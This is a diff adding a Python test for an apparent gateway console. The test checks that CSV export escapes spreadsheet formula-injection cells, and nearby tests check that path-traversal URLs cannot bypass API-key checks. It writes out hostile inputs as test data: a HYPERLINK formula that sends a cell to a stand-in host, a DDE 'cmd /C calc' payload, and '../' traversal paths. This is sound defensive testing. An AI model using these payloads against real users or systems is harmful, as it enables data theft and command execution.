@@ -50,3 +50,30 @@ async def test_the_api_behind_the_console_still_needs_a_key(console: Console) ->
         assert (await http.get("/v1/whoami")).status_code == 401
         assert (await http.get("/console/../v1/whoami")).status_code == 401  # no way round through the prefix
         assert (await http.get("/console/%2e%2e/v1/databases")).status_code in {401, 404}
+
+
+def test_csv_download_neutralises_cells_a_spreadsheet_would_run() -> None:
+    """Rows are untrusted: `=HYPERLINK(...)`, `+cmd|...`, `@SUM(...)` must reach the CSV as text, not formulas,
+    while plain numbers (negative ones included) stay numbers. Runs the console's own table.js under Node."""
+    import json
+    import shutil
+    import subprocess
+    from pathlib import Path
+
+    import pytest
+
+    node = shutil.which("node")
+    if node is None:
+        pytest.skip("Node.js is not installed")
+    table = Path(__file__).resolve().parents[2] / "gateway" / "console" / "static" / "table.js"
+    cells = ['=HYPERLINK("http://x.example/?"&A1;"click")', "+cmd|' /C calc'!A0", "@SUM(1)", "\tx", "-x",
+             "-5", "-2.5e3", "plain", "a,b"]
+    script = (f"import {{ toCSV }} from {json.dumps(table.as_uri())};\n"
+              f"process.stdout.write(toCSV([{{name: 'v'}}], {json.dumps([[c] for c in cells])}));\n")
+    out = subprocess.run([node, "--input-type=module", "-e", script], capture_output=True, text=True, check=True)
+    lines = out.stdout.split("\n")  # text mode reads the CSV's CRLF line ends as newlines
+    assert lines[0] == "v"
+    assert lines[1] == '"\'=HYPERLINK(""http://x.example/?""&A1;""click"")"'
+    assert lines[2:5] == ["'+cmd|' /C calc'!A0", "'@SUM(1)", "'\tx"]
+    assert lines[5] == "'-x"
+    assert lines[6:10] == ["-5", "-2.5e3", "plain", '"a,b"']
